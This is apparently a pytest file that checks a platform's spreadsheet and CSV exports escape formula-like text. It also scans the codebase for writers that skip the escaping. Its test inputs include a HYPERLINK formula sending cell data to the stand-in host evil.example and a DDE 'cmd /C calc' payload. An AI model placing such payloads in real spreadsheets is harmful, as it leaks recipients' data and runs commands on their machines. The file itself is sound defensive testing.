"""Every spreadsheet and CSV file the platform writes keeps text that looks like a formula as text."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from duikou.core.exports import csv_bytes, safe_cell, unescape_cell, xlsx_bytes

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'


@pytest.mark.parametrize(
    "value,written",
    [
        (LINK, "'" + LINK),
        ("+1+2", "'+1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # an apostrophe of its own before a formula keeps it through the round trip
        ("信阳毛尖", "信阳毛尖"),
        ("'引号开头", "'引号开头"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (Decimal("-1.25"), Decimal("-1.25")),
        (None, None),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_escaped_and_reads_back(value, written):
    assert safe_cell(value) == written
    assert unescape_cell(safe_cell(value)) == value


def test_xlsx_keeps_formula_text_as_text_and_numbers_as_numbers():
    content = xlsx_bytes("表", ["名称", "数值"], [[LINK, -5], ["-1+2", Decimal("-1.5")], ["=1+1", None]])
    sheet = load_workbook(io.BytesIO(content)).active
    text, numbers = [sheet.cell(row, 1) for row in (2, 3, 4)], [sheet.cell(row, 2) for row in (2, 3)]
    assert [(c.value, c.data_type) for c in text] == [("'" + LINK, "s"), ("'-1+2", "s"), ("'=1+1", "s")]
    assert [(c.value, c.data_type) for c in numbers] == [(-5, "n"), (-1.5, "n")]


def test_csv_fields_that_look_like_formulas_start_with_the_quote():
    content = csv_bytes(["名称", "数值"], [[LINK, -5], ["@cmd", Decimal("-1.5")]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["名称", "数值"], ["'" + LINK, "-5"], ["'@cmd", "-1.5"]]


# A file that writes a spreadsheet or CSV file without going through core.exports: none, but these.
NOT_EXPORTS = {
    "duikou/indicators/analytics.py": "a temporary CSV file that DuckDB reads back, never handed to anyone",
}
WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")
ESCAPED = re.compile(r"\b(safe_cell|safe_row|SafeCsvWriter|csv_bytes|xlsx_bytes|xlsx_response)\b")


def test_every_spreadsheet_or_csv_writer_escapes_its_cells():
    root = Path(__file__).resolve().parents[3]
    unescaped = []
    for path in sorted((root / "duikou").rglob("*.py")):
        name = path.relative_to(root).as_posix()
        if "/tests/" in name or name.endswith(("testing.py", "conftest.py", "core/exports.py")):
            continue
        text = path.read_text(encoding="utf-8")
        if WRITERS.search(text) and not ESCAPED.search(text) and name not in NOT_EXPORTS:
            unescaped.append(name)
    assert unescaped == []
